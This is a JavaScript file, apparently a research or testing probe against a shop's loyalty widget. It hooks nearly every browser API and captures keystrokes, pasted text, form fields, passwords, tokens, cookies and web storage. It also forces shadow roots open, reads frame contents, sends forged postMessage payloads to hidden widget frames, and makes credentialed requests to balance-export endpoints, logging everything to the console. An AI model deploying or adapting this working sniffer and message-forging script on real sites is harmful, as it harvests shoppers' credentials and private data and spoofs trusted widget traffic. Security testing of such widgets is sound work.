// A script of the shop's page that wants to know everything. It runs before the loader, wraps whatever the page's
// scripts can call, listens first to every event, opens every shadow root, reads every storage and every address,
// asks our server by itself and frames our documents. All it hears it says aloud on the console.
(() => {
  if (self !== top) return;
  const { apply, construct, defineProperty, getOwnPropertyDescriptor, ownKeys } = Reflect;
  const { stringify } = JSON;
  const say = console.debug.bind(console);
  const later = setInterval.bind(window);
  const ask = fetch.bind(window);
  const make = document.createElement.bind(document);
  const listen = EventTarget.prototype.addEventListener;
  const heard = new Set();
  const has = heard.has.bind(heard);
  const add = heard.add.bind(heard);
  const windows = new WeakMap();
  const [windowOf, keepWindow] = [windows.get.bind(windows), windows.set.bind(windows)];
  let news = [];
  let busy = false;

  /** Keeps every text in a value, however deep. */
  function keep(value, depth = 0) {
    if (typeof value === "string" || typeof value === "number") {
      const text = "" + value;
      if (text && !has(text)) {
        add(text);
        news[news.length] = text;
      }
    } else if (value && typeof value === "object" && depth < 5) {
      if (value instanceof Node) return;
      let names = [];
      try { names = ownKeys(value); } catch { /* another origin's window */ }
      for (let at = 0; at < names.length && at < 300; at++) {
        if (typeof names[at] === "string") keep(names[at], 9);
        try { keep(value[names[at]], depth + 1); } catch { /* a getter that minds */ }
      }
    }
  }

  function quietly(...values) {
    if (busy) return;
    busy = true;
    try { keep(values); } finally { busy = false; }
  }

  const wrapped = (native) => function (...given) {
    quietly(given, typeof this === "object" && this !== window ? this : String(this));
    const answer = apply(native, this, given);
    quietly(answer);
    return answer;
  };

  /** Another window of ours, with ears on what is sent to it. */
  function tapped(target) {
    if (!target || target === window) return target;
    if (!windowOf(target)) {
      keepWindow(target, new Proxy({}, {
        get: (_, name) => name === "postMessage" ? (...given) => { quietly(given); target.postMessage(...given); } : target[name],
      }));
    }
    return windowOf(target);
  }

  // every method and every accessor of everything that has a name here
  const spared = new Set(["Function", "Proxy", "Object", "Iterator", "Generator"]);
  const places = [[JSON, "JSON"], [Object, "Object"], [Reflect, "Reflect"], [Promise, "Promise"], [URL, "URL"], [navigator, "navigator"]];
  for (const name of Object.getOwnPropertyNames(window)) {
    const kind = getOwnPropertyDescriptor(window, name).value;
    if (typeof kind === "function" && kind.prototype && !spared.has(name)) places.push([kind.prototype, name]);
  }
  for (const [place] of places) {
    for (const name of ownKeys(place)) {
      const own = getOwnPropertyDescriptor(place, name);
      if (!own.configurable || name === "constructor" || name === "addEventListener") continue;
      if (typeof own.value === "function" && !own.value.prototype) defineProperty(place, name, { ...own, value: wrapped(own.value) });
      else if (own.get || own.set) {
        defineProperty(place, name, { ...own, get: own.get && wrapped(own.get), set: own.set && wrapped(own.set) });
      }
    }
  }
  for (const [kind, name] of [[HTMLIFrameElement, "contentWindow"], [MessageEvent, "source"]]) {
    const own = getOwnPropertyDescriptor(kind.prototype, name);
    defineProperty(kind.prototype, name, { ...own, get() { return tapped(apply(own.get, this, [])); } });
  }
  for (const name of ["fetch", "postMessage", "open", "setTimeout", "atob", "btoa", "structuredClone", "queueMicrotask"]) {
    window[name] = wrapped(window[name]);
  }
  for (const name of ["URL", "URLSearchParams", "Request", "Headers", "WebSocket", "EventSource", "Worker", "CustomEvent", "MessageChannel", "BroadcastChannel", "FormData", "Blob"]) {
    window[name] = new Proxy(window[name], { construct(kind, given) { quietly(given); return construct(kind, given); } });
  }
  for (const name of ["token", "password", "email", "code", "balance", "birthday", "coupon", "coupons", "session", "available", "member", "link"]) {
    defineProperty(Object.prototype, name, {
      configurable: true,
      get() { return undefined; },
      set(value) {
        quietly(value);
        defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  }

  // every event first, and every event that somebody else listens to
  const facts = (event) => quietly(event.type, event.data, event.detail, event.key, event.oldValue, event.newValue, event.url,
    event.origin, event.message, event.target?.value, event.clipboardData?.getData("text"));
  for (const type of ["message", "messageerror", "keydown", "keyup", "input", "beforeinput", "change", "paste", "copy", "focusin", "submit",
    "storage", "error", "unhandledrejection", "securitypolicyviolation", "hashchange", "popstate", "loyalty:apply-coupon"]) {
    apply(listen, window, [type, facts, { capture: true }]);
  }
  const listeners = new WeakMap();
  EventTarget.prototype.addEventListener = function (type, listener, ...more) {
    quietly(type);
    if (typeof listener === "function" && !listeners.has(listener)) {
      listeners.set(listener, function (event) { facts(event); return apply(listener, this, [event]); });
    }
    return apply(listen, this, [type, listeners.get(listener) ?? listener, ...more]);
  };

  // every shadow root is open and watched, like the page itself
  const roots = [document];
  const watch = new MutationObserver((changes) => {
    for (const change of changes) {
      quietly(change.oldValue, change.target.data, change.target.outerHTML);
      for (const node of change.addedNodes) quietly(node.outerHTML ?? node.textContent);
    }
  });
  const whole = { subtree: true, childList: true, attributes: true, characterData: true, attributeOldValue: true, characterDataOldValue: true };
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (options) {
    const root = apply(attachShadow, this, [{ ...options, mode: "open" }]);
    roots.push(root);
    watch.observe(root, whole);
    return root;
  };
  watch.observe(document, whole);

  /** Storages, addresses, the text of every root, and what can be seen of the frames in them. */
  function look() {
    try { keep([{ ...localStorage }, { ...sessionStorage }, document.cookie]); } catch { /* closed */ }
    keep([location.href, document.referrer, window.name, history.state, document.title]);
    keep(performance.getEntries().map((entry) => entry.name));
    for (const entry of window.navigation?.entries() ?? []) keep(entry.url);
    for (const root of roots) {
      keep(root.documentElement?.outerHTML ?? root.innerHTML);
      for (const field of root.querySelectorAll("input, textarea")) keep(field.value);
      for (const frame of root.querySelectorAll("iframe")) {
        keep([frame.src, frame.name, frame.title, frame.contentWindow?.length ?? 0]);
        for (const secret of ["document", "localStorage", "name", "boot", "first"]) {
          try { keep([frame.contentWindow[secret]?.body?.innerHTML, frame.contentWindow[secret]]); } catch { /* another origin's */ }
        }
      }
    }
    indexedDB.databases().then((all) => quietly(all.map((one) => one.name)));
    caches.keys().then(quietly);
  }

  function flush() {
    quietly();
    busy = true;
    try { look(); } finally { busy = false; }
    say("HEARD " + stringify(news));
    news = [];
  }
  later(flush, 100);
  apply(listen, window, ["pagehide", flush]);

  // and it asks by itself: our server, and our documents in frames of its own
  apply(listen, window, ["load", async () => {
    const tag = document.querySelector("script[src*='/widget.js']");
    if (!tag) return;
    const { origin, search } = new URL(tag.src);
    const shop = new URLSearchParams(search).get("shop");
    const opener = encodeURIComponent(location.origin);
    for (const [page, talk] of [
      ["panel", [{ type: "open", tab: "my_rewards", focus: true }, { type: "open", tab: "my_balance", focus: false }, { type: "focus", last: true },
        { type: "ask-identity" }, { type: "ready" }, { type: "applied", ok: true, reason: null }, { type: "identity", token: "x", known: false }]],
      ["badge", [{ type: "prices", items: [{ product_id: "p1", collection_ids: [], price: "10.00" }], balance: false }]],
    ]) {
      const frame = make("iframe");
      frame.hidden = true;
      document.body.append(frame);
      frame.contentWindow.location = `${origin}/${page}?shop=${shop}&opener=${opener}&tab=my_balance&lang=en`;
      apply(listen, frame, ["load", () => talk.forEach((message) => frame.contentWindow.postMessage(message, "*"))]);
    }
    for (const path of [`/panel?shop=${shop}`, "/widget/panel?tab=my_rewards", "/widget/my-balance/export", "/widget/referral"]) {
      for (const options of [{ credentials: "include", headers: { "X-Loyalty-Shop": shop } }, { credentials: "include" }, { mode: "no-cors" }]) {
        ask(origin + path, options).then(async (answer) => quietly(await answer.text()), quietly);
      }
    }
  }]);
})();
